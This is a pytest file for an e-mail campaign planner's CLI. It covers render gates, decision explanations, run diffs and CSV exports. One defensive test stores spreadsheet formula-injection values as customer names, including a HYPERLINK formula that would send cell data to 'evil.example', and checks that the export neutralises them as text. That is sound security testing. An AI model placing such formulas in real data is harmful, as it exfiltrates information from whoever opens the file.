"""The CI dry-run loop on the demo shop: the render gate, why for previews, the diff, runs list/show/export."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime

import numpy as np
import pytest
from click.testing import CliRunner
from sqlalchemy import update

from relmail.cli import cli
from relmail.planning.run import plan
from relmail.planning.why import explain, format_explanations
from relmail.store.models import Customer, Decision

AS_OF = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
WINDOW = "2026-W48"
RUN = "weekly:2026-W48"

#: An undefined variable printed only by the recipients of one variant (printing a missing value is an error).
BREAK = "{% block content %}\n<tr><td>{{ data.vip_code }}</td></tr>\n"


@pytest.fixture
def demo(project, engine):
    from relmail.demo import generate

    generate(engine, customers=1200, seed=7, as_of=AS_OF)
    return project


def _run(project, *args):
    return CliRunner().invoke(cli, ["-p", str(project.root), *args])


def _plan_args(*extra):
    return ["plan", "weekly", "--window", WINDOW, "--as-of", AS_OF.isoformat(), *extra]


def _senders(project, engine, message="ebike-launch") -> list[str]:
    d = plan(project, engine, "weekly", WINDOW, as_of=AS_OF, dry_run=True).decisions
    return sorted(d.customer_id[(d.message_id == message) & (d.action == "send")].tolist())


@pytest.mark.parametrize("broken, locale_of_last", [("ebike_launch.nl.html", "nl_NL"), ("ebike_launch.html", "en_GB")])
def test_the_render_gate_fails_on_a_variant_only_the_last_recipients_by_id_get(demo, engine, broken, locale_of_last, tmp_path):
    """All of a message's recipients but the last two by id get the working variant: a gate that samples
    the first recipients by id passes; this one renders every variant any recipient gets."""
    senders = _senders(demo, engine)
    assert len(senders) > 20
    other = "en_GB" if locale_of_last == "nl_NL" else "nl_NL"
    c = Customer.__table__
    with engine.begin() as conn:
        conn.execute(update(c).values(locale=other))
        conn.execute(update(c).where(c.c.id.in_(senders[-2:])).values(locale=locale_of_last))
    path = demo.templates_dir / broken
    source = path.read_text(encoding="utf-8")
    path.write_text(source.replace("{% block content %}\n", BREAK, 1), encoding="utf-8")
    line = source.split("{% block content %}")[0].count("\n") + 2

    out = _run(demo, *_plan_args("--dry-run", "--render-sample", "1", "--out", str(tmp_path / "plan.md")))
    assert out.exit_code == 22, out.output
    assert "Error: gate failed: 2 template render error(s)" in out.output
    variant = f"{broken} + text from the HTML" + (" with partials/footer.nl.html" if locale_of_last == "nl_NL" else "")
    md = (tmp_path / "plan.md").read_text()
    for failed in senders[-2:]:  # one drawn, the other its variant's fullest or emptiest recipient
        assert (f"render error: ebike-launch [{variant}] for {failed} ({locale_of_last}): {broken}:{line}: "
                "undefined variable: 'dict object' has no attribute 'vip_code'") in out.output
        assert f"- `ebike-launch [{variant}] for {failed} ({locale_of_last}): {broken}:{line}:" in md
    # Every variant was rendered: the working one for one drawn recipient (one locale, --render-sample 1) and its
    # fullest and emptiest, the broken one for both its recipients.
    rows = [line.split() for line in out.output.splitlines() if line.startswith("ebike-launch ") and " + " in line]
    counts = {r[1]: r[-4:] for r in rows}  # html file → recipients, locales, rendered, failed
    assert counts[broken] == ["2", "1", "2", "2"]
    working = next(r for html, r in counts.items() if html != broken)
    assert int(working[2]) == min(int(working[0]), 3) and working[3] == "0"
    data = json.loads(_run(demo, *_plan_args("--dry-run", "--render-sample", "1", "--json")).stdout)
    assert data["render_errors"] == 2
    assert {(p["customer_id"], p["file"], p["line"]) for p in data["render_problems"]} == {(c, broken, line) for c in senders[-2:]}
    assert {c["variant"] for c in data["render_checks"] if c["message"] == "ebike-launch"} == {
        "ebike_launch.html + text from the HTML", "ebike_launch.nl.html + text from the HTML with partials/footer.nl.html"}


def test_the_render_gate_renders_like_the_send_with_recommended_products_and_says_how_many_per_variant(demo, engine):
    from relmail.campaigns import load_campaign
    from relmail.planning.gate import render_sample

    result = plan(demo, engine, "weekly", WINDOW, as_of=AS_OF, dry_run=True)
    assert render_sample(demo, engine, load_campaign(demo, "weekly"), result, sample=4) == []
    sends = {m.message_id: m.send for m in result.messages}
    assert len({str(c.variant) for c in result.render_checks}) == len(result.render_checks)  # each variant named apart
    for message_id, n in sends.items():
        mine = [c for c in result.render_checks if c.variant.message_id == message_id]
        assert sum(c.recipients for c in mine) == n
        for c in mine:
            # Four drawn (at least one per locale), and the fullest and the emptiest recipient where they are others.
            drawn = min(c.recipients, max(4, c.locales))
            assert drawn <= c.rendered <= min(c.recipients, drawn + 2) and c.failed == 0
    # A template that fails only when the customer has recommended products is caught: the gate builds them.
    newsletter = demo.templates_dir / "newsletter.html"
    newsletter.write_text(newsletter.read_text().replace("{% block content %}", "{% block content %}{{ products[0].nope }}", 1))
    problems = render_sample(demo, engine, load_campaign(demo, "weekly"), result, sample=1)
    assert problems and {p.message_id for p in problems} == {"newsletter"}


def test_why_previews_a_window_never_written_with_the_reasons_of_the_written_run(demo, engine, tmp_path):
    picked = ["C0000001", "C0000002"]
    d = plan(demo, engine, "weekly", WINDOW, as_of=AS_OF, dry_run=True).decisions
    # One customer of each kind: suppressed by a hard rule, held out, sent, lost arbitration.
    for action, reason in (("suppress", "NO_CONSENT"), ("holdout", "HOLDOUT"), ("send", ""), ("suppress", "ARBITRATION_LOST")):
        rows = np.flatnonzero((d.action == action) & np.array([reason in r for r in d.reasons.tolist()]))
        picked.append(str(d.customer_id[rows[0]]))
    assert _run(demo, *_plan_args("--dry-run", "--out", str(tmp_path / "plan.jsonl"))).exit_code == 0
    previews, files = {}, {}
    for customer in picked:
        preview = _run(demo, "why", customer, "--campaign", "weekly", "--window", WINDOW, "--as-of", AS_OF.isoformat())
        assert preview.exit_code == 0, preview.output
        assert preview.output.splitlines()[0].endswith("(as of 2026-11-23 09:00 UTC; a preview, not written)")
        previews[customer] = preview.output.split("\n", 1)[1]
        from_file = _run(demo, "why", customer, "--plan", str(tmp_path / "plan.jsonl"))
        assert from_file.exit_code == 0, from_file.output
        files[customer] = from_file.output.split("\n", 1)[1]
    assert _run(demo, *_plan_args()).exit_code == 0
    for customer in picked:
        written = _run(demo, "why", customer, "--run", RUN)
        assert written.output.splitlines()[0] == f"{customer} in run {RUN} (as of 2026-11-23 09:00 UTC)"
        assert previews[customer] == files[customer] == written.output.split("\n", 1)[1], customer
        # Once written, --campaign/--window reads the ledger.
        assert _run(demo, "why", customer, "--campaign", "weekly", "--window", WINDOW).output == written.output


def test_why_shows_the_score_the_plan_computed_for_a_hard_rule_suppression(demo, engine):
    result = plan(demo, engine, "weekly", WINDOW, as_of=AS_OF)
    d = result.decisions
    # Suppressed by a hard rule and below the threshold: the sentence must use the stored score, not 0.
    rows = np.flatnonzero(np.array([r.startswith("NO_CONSENT") and "LOW_RELEVANCE" in r for r in d.reasons.tolist()]))
    i = rows[0]
    customer, message, score = str(d.customer_id[i]), str(d.message_id[i]), float(d.score[i])
    assert score > 0
    facts, exps = explain(engine, customer, RUN)
    e = next(x for x in exps if x.message_id == message)
    text = format_explanations(facts, [e])
    assert f"{message}: SUPPRESS  score {score:.2f} (not considered: a hard rule applies)" in text
    assert f"LOW_RELEVANCE: relevance {score:.2f} is below the threshold 0.30" in text


def test_diff_against_last_after_a_widened_segment_lists_the_newly_suppressed_in_text_json_and_plan_md(demo, engine, tmp_path):
    assert _run(demo, *_plan_args()).exit_code == 0
    segment = demo.segments_dir / "cyclists.yml"
    segment.write_text(segment.read_text() + "  - purchased: {category: [accessories, maintenance], within_days: 365}\n")
    args = _plan_args("--dry-run", "--diff-against", "last", "--out", str(tmp_path / "plan.md"), "--limit", "100000")
    out = _run(demo, *args)
    assert out.exit_code == 0, out.output
    data = json.loads(_run(demo, *args[:-2], "--json").stdout)["diff"]
    assert data["against"] == f"run {RUN}"
    entered = {(c["customer_id"], x["message_id"]): x for c in data["changes"] for x in c["changes"] if x["before"] == "absent"}
    assert entered and {m for _, m in entered} == {"ebike-launch"}
    suppressed = {k: x for k, x in entered.items() if x["after"] == "suppress"}
    assert len(suppressed) >= 10 and all(x["reasons_after"] for x in suppressed.values())
    assert data["transitions"]["absent -> suppress"] == len(suppressed)
    # Each customer once, every change counted once.
    customers = [c["customer_id"] for c in data["changes"]]
    assert len(customers) == len(set(customers)) == data["customers"]
    assert sum(data["transitions"].values()) == data["decisions"] == sum(len(c["changes"]) for c in data["changes"])
    md = (tmp_path / "plan.md").read_text()
    assert f"#### Changes since run {RUN}" in md
    assert f"| absent -> suppress | {len(suppressed):,} |" in md
    customer, _ = sorted(suppressed)[0]
    reasons = " ".join(suppressed[(customer, "ebike-launch")]["reasons_after"])
    assert f"| {customer} | ebike-launch | absent | suppress ({reasons}) |" in md or \
        f"|  | ebike-launch | absent | suppress ({reasons}) |" in md
    assert f"{customer}" in out.output and "absent -> suppress" in out.output


def test_a_replan_preview_states_the_kept_decisions_and_leaves_them_out_of_the_diff(demo, engine, tmp_path):
    from relmail.store.models import Delivery

    written = plan(demo, engine, "weekly", WINDOW, as_of=AS_OF)
    D = Decision.__table__
    with engine.begin() as conn:
        rows = conn.execute(D.select().where(D.c.action == "send").order_by(D.c.id).limit(5)).mappings().all()
        for r in rows:
            conn.execute(Delivery.__table__.insert().values(decision_id=r["id"], run_id=RUN, customer_id=r["customer_id"],
                                                            message_id=r["message_id"], status="accepted", attempts=1, updated_at=AS_OF))
    out = _run(demo, *_plan_args("--dry-run", "--diff-against", "last", "--out", str(tmp_path / "plan.md")))
    assert out.exit_code == 0, out.output
    kept = (f"Of the written run's decisions, this replan would keep 5 unchanged (the e-mail was delivered or is being delivered) "
            f"and would decide again the other {len(written.decisions) - 5:,}.")
    assert kept in out.output and kept in (tmp_path / "plan.md").read_text()
    assert f"Changes since run {RUN}: 0 customers, 0 decisions ({len(written.decisions) - 5:,} unchanged; 5 kept by the replan)" in out.output


def test_a_run_planned_by_mistake_is_discarded_and_one_with_sends_is_kept(demo, engine):
    from sqlalchemy import func, select

    from relmail.store.models import Decision, Event, Run

    def count(table, run_id):
        with engine.connect() as conn:
            return conn.execute(select(func.count()).select_from(table).where(table.c.run_id == run_id)).scalar_one()

    assert _run(demo, "plan", "weekly", "--window", "2026-W49", "--as-of", "2026-11-30T09:00:00+00:00").exit_code == 0
    mistake = "weekly:2026-W49"
    decided = count(Decision.__table__, mistake)
    assert decided > 1000
    asked = _run(demo, "runs", "discard", mistake)
    assert asked.exit_code == 2 and "needs --yes" in asked.output and count(Decision.__table__, mistake) == decided
    done = _run(demo, "runs", "discard", "weekly:last", "--yes", "--json")
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout) == {"run": mistake, "decisions": decided, "deliveries": 0}
    assert count(Decision.__table__, mistake) == 0
    with engine.connect() as conn:
        assert conn.execute(select(Run.__table__.c.id).where(Run.__table__.c.id == mistake)).first() is None
    # The window plans again as if never planned (no --replan needed).
    assert _run(demo, "plan", "weekly", "--window", "2026-W49", "--as-of", "2026-11-30T09:00:00+00:00").exit_code == 0
    # Once some of its e-mails went out the run stays: the ledger is what keeps them from going out twice.
    sent = _run(demo, "send", "weekly", "--window", "2026-W49", "--limit", "3")
    assert sent.exit_code == 0, sent.output
    kept = count(Decision.__table__, mistake)
    refused = _run(demo, "runs", "discard", mistake, "--yes")
    assert refused.exit_code == 9 and "(3 accepted)" in refused.stderr and "it stays in the ledger" in refused.stderr
    assert count(Decision.__table__, mistake) == kept > 1000 and count(Event.__table__, mistake) == 3


def _logged_only(code: str, sentence: str) -> str:
    """why's sentence as the ledger alone gives it (the export's): without what why looks up in the store."""
    if code == "INVALID_ADDRESS":
        # why adds the stored address's problem; the decision logs only the flag.
        return re.sub(r": [^;]*$", "", sentence)
    if code == "HARD_BOUNCE":
        # why adds when the address bounced and who reported it.
        return re.sub(r" on \d{4}-\d\d-\d\d \d\d:\d\d UTC( \(source: [^)]*\))?", "", sentence, count=1)
    if code not in ("UNSUBSCRIBED", "NO_CONSENT"):
        return sentence
    return re.sub(r"( on \d{4}-\d\d-\d\d \d\d:\d\d UTC)?; source(: .*| not recorded)$", "", sentence)


def test_runs_list_show_and_export_with_the_sentences_of_why(demo, engine, tmp_path):
    from relmail.store.models import Run

    assert _run(demo, *_plan_args()).exit_code == 0
    assert _run(demo, "plan", "weekly", "--window", "2026-W49", "--as-of", "2026-11-30T09:00:00+00:00").exit_code == 0
    listed = json.loads(_run(demo, "runs", "list", "--campaign", "weekly", "--json").stdout)
    assert [r["id"] for r in listed] == ["weekly:2026-W49", RUN]
    first = listed[1]
    assert first["window"] == WINDOW and first["as_of"] == AS_OF.isoformat() and first["status"] == "planned"
    assert first["decisions"] == first["send"] + first["holdout"] + first["suppress"] > 1000
    assert _run(demo, "runs", "list", "--campaign", "other", "--json").stdout.strip() == "[]"
    assert _run(demo, "runs", "list", "--campaign", "weekly", "--limit", "1", "--quiet").stdout == "weekly:2026-W49\n"
    assert len(json.loads(_run(demo, "runs", "list", "--json", "--limit", "0").stdout)) > 2  # the demo's history runs too
    text = _run(demo, "runs", "list").output
    assert text.splitlines()[0].split() == ["run", "window", "as", "of", "(UTC)", "status", "decisions", "send", "holdout",
                                            "suppress", "deliveries"]

    shown = _run(demo, "runs", "show", "weekly:last")
    assert shown.exit_code == 0 and shown.output.startswith("Run weekly:2026-W49 ")
    details = json.loads(_run(demo, "runs", "show", RUN, "--json").stdout)
    assert details["id"] == RUN and [m["message"] for m in details["messages"]][0] == "ebike-launch"
    assert sum(details["reasons"].values()) >= details["suppress"] + details["holdout"]
    missing = _run(demo, "runs", "show", "weekly:2020-W01")
    assert missing.exit_code == 8 and "newest: weekly:2026-W49, weekly:2026-W48" in missing.output

    out = _run(demo, "runs", "export", RUN, "--out", str(tmp_path / "suppressed.csv"))
    assert out.exit_code == 0, out.output
    with (tmp_path / "suppressed.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert set(rows[0]) == {"run_id", "customer_id", "message_id", "action", "score", "expected_value", "reasons", "explanation"}
    assert {r["action"] for r in rows} == {"suppress", "holdout"}  # the default: who is not mailed
    assert out.output.startswith(f"Wrote {len(rows):,} decisions of run {RUN}")
    # The export's sentences are why's, for every kind of reason.
    seen = set()
    for r in rows:
        codes = r["reasons"].split()
        if set(codes) <= seen:
            continue
        seen.update(codes)
        facts, exps = explain(engine, r["customer_id"], RUN)
        e = next(x for x in exps if x.message_id == r["message_id"])
        # The export's sentences are the logged features'; why also says when and from where an opt-out came (the store's).
        assert r["explanation"] == "; ".join(f"{c}: {_logged_only(c, t)}" for c, t in e.because)
        why_text = _run(demo, "why", r["customer_id"], "--run", RUN).output
        for code, sentence in e.because:
            assert f"  {code}: {sentence}" in why_text
    assert len(seen) >= 12

    contact = _run(demo, "runs", "export", RUN, "--out", str(tmp_path / "all.csv"), "--actions", "send", "--with-contact")
    assert contact.exit_code == 0, contact.output
    with (tmp_path / "all.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["action"] for r in rows} == {"send"} and all("@" in r["email"] for r in rows)
    assert rows[0]["explanation"] == "every rule passed, and it was the best message for this customer in this run"
    with engine.connect() as conn:
        assert conn.execute(Run.__table__.select()).first() is not None
    bad = _run(demo, "runs", "export", RUN, "--out", str(tmp_path / "x.csv"), "--actions", "sent")
    assert bad.exit_code == 4 and "--actions: sent" in bad.output


def test_a_dry_run_through_the_read_only_role_of_the_ci_guide_plans_what_the_owner_plans(demo, engine, db_url, monkeypatch):
    """ci.md's role (SELECT and TEMPORARY only) may not take the lock that building the columnar copy of the events
    needs: the dry run reads the store with SQL instead, and decides the same, rather than failing with exit 5."""
    import re
    import uuid
    from pathlib import Path

    from sqlalchemy import create_engine, text

    from relmail.store import columnar

    if not db_url.startswith("postgresql"):
        pytest.skip("roles are PostgreSQL's")
    guide = (Path(__file__).resolve().parents[1] / "docs" / "guide" / "ci.md").read_text()
    (grants,) = [b for b in re.findall(r"```sql\n(.*?)```", guide, re.S) if "relmail_ci" in b]
    role, database = f"relmail_ci_{uuid.uuid4().hex[:8]}", db_url.rsplit("/", 1)[1]
    admin = create_engine(db_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        for statement in grants.replace("relmail_ci", role).replace("DATABASE relmail", f'DATABASE "{database}"').split(";"):
            if statement.split("--")[0].strip():
                conn.execute(text(statement.replace("'...'", "'ci'")))
    try:
        columnar.remove(columnar.location(engine, demo.root))  # a fresh CI checkout has no copy
        expected = _run(demo, *_plan_args("--dry-run", "--render-sample", "0", "--json"))
        columnar.remove(columnar.location(engine, demo.root))
        monkeypatch.setenv("RELMAIL_DATABASE_URL", db_url.replace("://postgres@", f"://{role}:ci@"))
        out = _run(demo, *_plan_args("--dry-run", "--render-sample", "0", "--json"))
        assert out.exit_code == 0, out.output
        assert json.loads(out.stdout)["messages"] == json.loads(expected.stdout)["messages"]
    finally:
        with admin.connect() as conn:
            conn.execute(text("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = :r"), {"r": role})
            conn.execute(text(f'DROP OWNED BY "{role}"'))
            conn.execute(text(f'DROP ROLE "{role}"'))
        admin.dispose()


def test_a_plan_with_render_sample_0_says_the_gate_was_skipped_not_that_nothing_failed(demo):
    out = _run(demo, *_plan_args("--dry-run", "--render-sample", "0"))
    assert out.exit_code == 0, out.output
    assert "; render gate skipped (--render-sample 0)." in out.output and "0 renders" not in out.output


def test_a_replans_suppression_rate_and_gates_are_the_whole_runs_as_the_ledger_counts_it(demo, engine):
    week = ["plan", "weekly", "--window", "2026-W49", "--as-of", "2026-11-30T09:00:00+00:00", "--render-sample", "0"]
    assert _run(demo, *week).exit_code == 0
    assert _run(demo, "send", "weekly", "--window", "2026-W49", "--limit", "40").exit_code == 0
    replan = json.loads(_run(demo, *week, "--replan", "--json").stdout)
    t = replan["totals"]
    assert t["kept"] == 40
    whole = t["suppress"] / (t["send"] + t["holdout"] + t["suppress"] + t["kept"])
    redecided = t["suppress"] / (t["send"] + t["holdout"] + t["suppress"])
    assert replan["suppression_rate"] == round(whole, 4) < round(redecided, 4)
    (listed,) = [r for r in json.loads(_run(demo, "runs", "list", "--json").stdout) if r["id"] == "weekly:2026-W49"]
    assert round(listed["suppress"] / listed["decisions"], 4) == replan["suppression_rate"]
    # The gates read the same: a limit between the two rates passes, the kept sends count as sends.
    between = f"{(whole + redecided) / 2:.6f}"
    gated = _run(demo, *week, "--replan", "--max-suppression-rate", between, "--min-sends", str(t["send"] + 40))
    assert gated.exit_code == 0, gated.output
    assert f"of the run's {listed['decisions']:,} decisions, the 40 kept included" in gated.output


def test_contact_cells_a_spreadsheet_would_run_as_a_formula_are_exported_as_text(engine, tmp_path):
    """A customer's own name and address go into an export a colleague opens in Excel: never as a formula."""
    from relmail.planning.export import export_run
    from relmail.store.models import Run

    now = datetime(2026, 11, 23, 12, tzinfo=UTC)
    people = [("C1", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "+31 6 1234", "-x@example.com"),
              ("C2", "@SUM(1+1)", "\tTab", "anna@example.com"), ("C3", "Anna-Lena", "O'Neil = me", "b@example.com")]
    with engine.begin() as conn:
        conn.execute(Run.__table__.insert(), [{"id": "weekly:2026-W48", "campaign": "weekly", "window": "2026-W48", "as_of": now,
                                               "seed": 0, "status": "planned", "config_hash": "", "created_at": now, "updated_at": now}])
        conn.execute(Customer.__table__.insert(), [{"id": cid, "email": email, "first_name": first, "last_name": last,
                                                    "created_at": now, "attributes": {}} for cid, first, last, email in people])
        conn.execute(Decision.__table__.insert(), [{"run_id": "weekly:2026-W48", "customer_id": cid, "message_id": "newsletter",
                                                    "action": "send", "score": 0.5, "expected_value": 1.0, "reasons": "",
                                                    "features": {}, "created_at": now}
                                                   for cid, *_ in people])
    export_run(engine, "weekly:2026-W48", tmp_path / "out.csv", actions=("send",), with_contact=True)
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
        rows = {r["customer_id"]: r for r in csv.DictReader(fh)}
    assert [rows["C1"][k] for k in ("first_name", "last_name", "email")] == [
        "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "'+31 6 1234", "'-x@example.com"]
    assert [rows["C2"][k] for k in ("first_name", "last_name", "email")] == ["'@SUM(1+1)", "'\tTab", "anna@example.com"]
    assert [rows["C3"][k] for k in ("first_name", "last_name", "email")] == ["Anna-Lena", "O'Neil = me", "b@example.com"]


def test_a_plan_file_and_the_export_of_the_written_run_round_scores_alike(engine, tmp_path):
    """The plan file rounds what the ledger stores (6 decimals) to 4, as the export does, not the raw score."""
    from relmail.planning import decisions as dec
    from relmail.planning.export import export_run
    from relmail.store.models import Run

    now = datetime(2026, 11, 23, 12, tzinfo=UTC)
    made = dec.Decisions(np.array(["C1", "C2"]), np.array(["m", "m"]), np.array(["suppress", "holdout"]),
                         np.array([0.123449996, 0.5]), np.array([2.000049996, -1.0]), np.array(["LOW_RELEVANCE", "HOLDOUT"]),
                         np.array(["{}", "{}"]))
    with engine.begin() as conn:
        conn.execute(Run.__table__.insert(), [{"id": "weekly:2026-W48", "campaign": "weekly", "window": "2026-W48", "as_of": now,
                                               "seed": 0, "status": "planned", "config_hash": "", "created_at": now, "updated_at": now}])
        dec.write(conn, "weekly:2026-W48", made, now)
    export_run(engine, "weekly:2026-W48", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
        exported = {r["customer_id"]: (float(r["score"]), float(r["expected_value"])) for r in csv.DictReader(fh)}
    planned = {r["customer_id"]: (r["score"], r["expected_value"]) for r in made.records(features=False)}
    assert planned == exported
    assert planned["C1"][0] == 0.1235 != round(0.123449996, 4)
